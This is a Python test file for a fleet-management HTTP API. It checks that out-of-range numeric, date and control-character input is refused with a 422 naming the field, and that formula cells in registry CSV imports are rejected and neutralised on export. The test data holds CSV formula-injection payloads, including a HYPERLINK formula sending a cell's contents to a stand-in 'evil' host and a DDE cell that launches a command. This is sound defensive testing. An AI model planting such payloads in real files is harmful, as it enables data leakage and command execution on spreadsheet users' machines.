"""Hostile input over real HTTP (issue 12): out-of-range numbers, years and control characters are refused 422
naming the field (they were 500s), and registry CSV cells a spreadsheet would run are refused on import and
neutralised on export."""

from __future__ import annotations

import csv
import io

from tests.fleet import Server

BIG = str(10**30)
F0, T0 = "0001-01-01T00:00:00+08:00", "0001-01-02T00:00:00+08:00"
F9, T9 = "9999-12-30T00:00:00+08:00", "9999-12-31T00:00:00+08:00"

CASES = [
    ("GET", "/api/v1/alerts", {"offset": BIG}, "offset"),
    ("GET", "/api/v1/registry/units", {"offset": BIG}, "offset"),
    ("GET", "/api/v1/units/HN00000001/events", {"before": BIG}, "before"),
    ("POST", f"/api/v1/alerts/{2**63}/ack", {}, "alert_id"),
    ("GET", "/api/v1/audit", {"offset": BIG}, "offset"),
    ("GET", "/api/v1/availability", {"from": F0, "to": T0}, "from"),
    ("GET", "/api/v1/availability/flagged", {"from": F9, "to": T9}, "from"),
    ("GET", "/api/v1/reports/ops", {"from": F9, "to": T9, "format": "csv"}, "from"),
    ("GET", "/api/v1/units/HN00000001/slots", {"date": "0001-01-01"}, "date"),
    ("GET", "/api/v1/units/HN00000001/data", {"month": "9999-12"}, "month"),
    ("GET", "/api/v1/analytics/sim-data", {"month": "0000-01"}, "month"),
    ("GET", "/api/v1/units/HN0000%00001", {}, "path"),
    ("GET", "/api/v1/registry/units", {"q": "HN\x00"}, "q"),
    ("GET", "/api/v1/commands", {"offset": BIG}, "offset"),  # not bounded by its route: the safety net names it
]


def test_out_of_range_input_is_a_422_naming_the_field(server: Server) -> None:
    r = server.request("PUT", "/api/v1/registry/units/HN00000001", json={})
    assert r.status_code == 200, r.text
    for method, path, params, field in CASES:
        r = server.request(method, path, params=params)
        assert r.status_code == 422, (path, params, r.status_code, r.text)
        assert r.json()["errors"][0]["field"] == field, (path, r.json())
    r = server.request("POST", "/api/v1/registry/units/HN00000001/status", json={"status": "spare", "at": F9})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "at", r.text
    r = server.request("PATCH", "/api/v1/registry/units/HN00000001", json={"link_type": None})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "link_type", r.text


def test_csv_formula_cells_refused_on_import_and_neutralised_on_export(server: Server) -> None:
    body = (b"sn,vendor,note\r\n"
            b"HN00000011,ACME,=HYPERLINK(\"http://evil/\"&A1)\r\n"
            b"HN00000012,@SUM(A1),fine\r\n"
            b"HN00000013,ACME,-2+3+cmd|' /C calc'!A0\r\n"
            b"HN00000014,ACME,-12.5\r\n"
            b"HN00000015,+86 731 5550 100,'=quoted on purpose\r\n")
    r = server.request("POST", "/api/v1/registry/units/import", content=body)
    assert r.status_code == 200, r.text
    out = r.json()
    assert out["imported"] == 2
    assert [(e["line"], e["field"]) for e in out["errors"]] == [(2, "note"), (3, "vendor"), (4, "note")]
    assert "formula" in out["errors"][0]["error"] and out["errors"][0]["error"].startswith("备注")
    assert server.get("/api/v1/registry/units/HN00000015").json()["note"] == "=quoted on purpose"
    export = server.get("/api/v1/registry/units.csv", lang="en")
    rows = {r["sn"]: r for r in csv.DictReader(io.StringIO(export.content.decode("utf-8-sig")))}
    assert rows["HN00000015"]["note"] == "'=quoted on purpose"
    assert rows["HN00000015"]["vendor"] == "'+86 731 5550 100"
    assert rows["HN00000014"]["note"] == "'-12.5"
    # and the exported file imports back unchanged
    r = server.request("POST", "/api/v1/registry/units/import", content=export.content)
    assert r.status_code == 200 and r.json()["errors"] == [], r.text
    assert server.get("/api/v1/registry/units/HN00000015").json()["note"] == "=quoted on purpose"
    assert server.get("/api/v1/registry/units/HN00000014").json()["note"] == "-12.5"
